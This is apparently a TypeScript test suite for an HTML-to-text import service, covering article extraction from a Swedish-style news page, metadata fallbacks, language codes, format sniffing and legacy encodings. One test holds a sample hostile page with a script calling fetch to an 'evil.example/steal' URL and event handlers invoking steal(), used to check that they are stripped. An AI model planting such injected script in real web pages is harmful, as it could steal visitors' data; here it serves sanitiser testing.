// Web pages saved from the browser: the article's own text in blocks, the page's metadata, and nothing
// of the navigation, ads, comments, scripts or event handlers around it. The fixture news-page.html
// was written for these tests in the shape of a Swedish news site's article page.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { convertHtml } from '../../main/services/import/html.ts';
import { languageCode } from '../../main/services/import/language-code.ts';
import { convertFile } from '../../main/services/import/convert.ts';
import { sniffFormat } from '../../main/services/import/formats.ts';
import { AppError } from '../../main/services/errors.ts';

const page = readFileSync(new URL('./fixtures/import/news-page.html', import.meta.url), 'utf8');

test('a saved news page gives its article text in paragraphs and its metadata', () => {
  const a = convertHtml(page, 'news-page.html');
  assert.equal(a.title, 'Putin i Astana: ”Trolling på hög nivå”');
  assert.deepEqual(a.meta, {
    source: 'Nyhetsbladet',
    author: 'Karin Lund',
    publishedAt: '2024-10-08',
    url: 'https://www.nyhetsbladet.example/utrikes/putin-astana-2024',
    language: 'sv-SE',
  });
  const blocks = a.text.split('\n\n');
  assert.ok(blocks.some((b) => b.startsWith('Rysslands president Vladimir Putin anlände på tisdagen till Astana')));
  assert.ok(blocks.includes('Energifrågan i centrum'), 'a subheading is a block of its own');
  assert.ok(a.text.includes('”Det här är trolling på hög nivå”, säger en tidigare rådgivare'));
  assert.ok(a.text.includes('Toppmötet avslutas på torsdag med en gemensam deklaration, om parterna kan enas.'));
  for (const outside of [
    'Logga in',
    'ANNONS',
    'Kommentarer',
    'Typiskt Putin',
    'Ansvarig utgivare',
    'Injected by a script',
    'alert(',
    'tracker',
    'onclick',
    '<p',
  ])
    assert.ok(!a.text.includes(outside), `the text leaves out ${outside}`);
  assert.doesNotMatch(a.text, /\n{3,}/, 'blocks are separated by one blank line');
  assert.doesNotMatch(a.text, /\r/);
  assert.equal(a.text, a.text.trim());
});

test('metadata falls back: JSON-LD, then <title> and the host', () => {
  const bare = `<html><head><title>Rubriken</title><link rel="canonical" href="https://www.svt.example/nyheter/1">
    <script type="application/ld+json">[{"@type":"NewsArticle","datePublished":"2023-02-01","author":[{"name":"A. Berg"},{"name":"C. Dahl"}]}]</script>
    <script type="application/ld+json">{ not json</script></head>
    <body><article><p>${'Första stycket om valet i Finland. '.repeat(20)}</p><p>${'Andra stycket. '.repeat(20)}</p></article></body></html>`;
  const a = convertHtml(bare, 'bare.html');
  assert.equal(a.title, 'Rubriken');
  assert.deepEqual(a.meta, { source: 'svt.example', author: 'A. Berg, C. Dahl', publishedAt: '2023-02-01', url: 'https://www.svt.example/nyheter/1' });
  assert.equal(a.text.split('\n\n').length, 2);
});

test('language codes are read in their common spellings, and nonsense is left out', () => {
  assert.equal(languageCode('sv_SE'), 'sv-SE');
  assert.equal(languageCode('EN-gb'), 'en-GB');
  assert.equal(languageCode('sv'), 'sv');
  assert.equal(languageCode('Swedish please'), undefined);
  assert.equal(languageCode(''), undefined);
});

test('HTML with scripts, iframes and handlers keeps only its text; a page without text is refused by name', async () => {
  const hostile = `<html><body><script>fetch('https://evil.example/steal')</script><iframe src="https://evil.example"></iframe>
    <div onmouseover="steal()"><p>${'Det här är brödtexten. '.repeat(15)}</p><img src=x onerror="steal()"></div>
    <noscript>Slå på JavaScript</noscript><style>p{}</style></body></html>`;
  const a = convertHtml(hostile, 'hostile.html');
  assert.match(a.text, /^Det här är brödtexten\./);
  for (const bad of ['fetch', 'evil', 'steal', 'onerror', 'JavaScript', 'p{}']) assert.ok(!a.text.includes(bad), bad);
  const empty = () => convertHtml('<html><body><script>x()</script><nav><a href="/">Start</a></nav></body></html>', 'tom.html');
  assert.throws(empty, (e: unknown) => e instanceof AppError && e.code === 'INVALID_INPUT' && /tom\.html/.test(e.message));
  await assert.rejects(convertFile('blank.html', new Uint8Array()), /blank\.html is empty/);
});

test('a page is recognised by its bytes whatever its name, and its declared encoding is honoured', async () => {
  const bytes = new TextEncoder().encode(page);
  assert.equal(sniffFormat(bytes, 'download'), 'html');
  assert.equal(sniffFormat(bytes, 'page.txt'), 'html');
  assert.equal(sniffFormat(new TextEncoder().encode('%PDF-1.7\n'), 'report.docx'), 'pdf');
  await assert.rejects(convertFile('report.docx', new TextEncoder().encode('%PDF-1.7\n%âãÏÓ\n')), /report\.docx is damaged or not a complete PDF/);
  // Windows-1252, as older pages declare it: "Göteborg" with ö as the byte F6.
  const latin = Uint8Array.from([
    ...new TextEncoder().encode('<html><head><meta charset="windows-1252"><title>G'),
    0xf6,
    ...new TextEncoder().encode(`teborg</title></head><body><article><p>${'Text om G'.repeat(1)}`),
    0xf6,
    ...new TextEncoder().encode(`teborg. ${'Mer text om staden. '.repeat(20)}</p></article></body></html>`),
  ]);
  const [a] = await convertFile('gbg.htm', latin);
  assert.equal(a!.title, 'Göteborg');
  assert.match(a!.text, /^Text om Göteborg\./);
});
